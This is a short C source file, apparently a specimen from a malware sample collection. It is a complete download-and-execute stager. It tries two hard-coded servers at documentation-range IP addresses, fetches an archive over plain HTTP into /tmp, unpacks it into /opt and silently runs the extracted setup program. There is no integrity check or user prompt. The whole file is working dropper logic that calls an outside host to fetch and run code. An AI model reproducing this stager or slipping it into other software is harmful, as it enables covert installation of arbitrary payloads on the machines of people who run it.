/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A program that fetches by itself, one of two servers, and lets a child unpack what came before it is run. */
#include "specimen.h"

#include <sys/wait.h>

static const char *const servers[] = { "198.51.100.47", "198.51.100.48" };

static int fetch(const char *server, const char *file)
{
	char text[512];
	ssize_t n;
	int s = dial(inet_addr(server), 8081);
	if (s < 0)
		return -1;
	n = snprintf(text, sizeof(text), "GET /app.tgz HTTP/1.0\r\nHost: %s\r\n\r\n", server);
	send(s, text, (size_t)n, 0);
	int f = open(file, O_WRONLY | O_CREAT, 0600);
	while ((n = recv(s, text, sizeof(text), 0)) > 0)
		write(f, text, (size_t)n);
	close(f);
	return close(s);
}

static void run(const char *program, const char *how, const char *what)
{
	int status;
	pid_t child = fork();
	if (child == 0) {
		execlp(program, program, how, what, "-C", "/opt", (char *)0);
		_exit(127);
	}
	waitpid(child, &status, 0);
}

int main(void)
{
	for (unsigned i = 0; i < 2; i++)
		if (fetch(servers[i], "/tmp/app.tgz") == 0)
			break;
	run("tar", "xzf", "/tmp/app.tgz");
	run("/opt/setup", "-q", "-y");
	return 0;
}
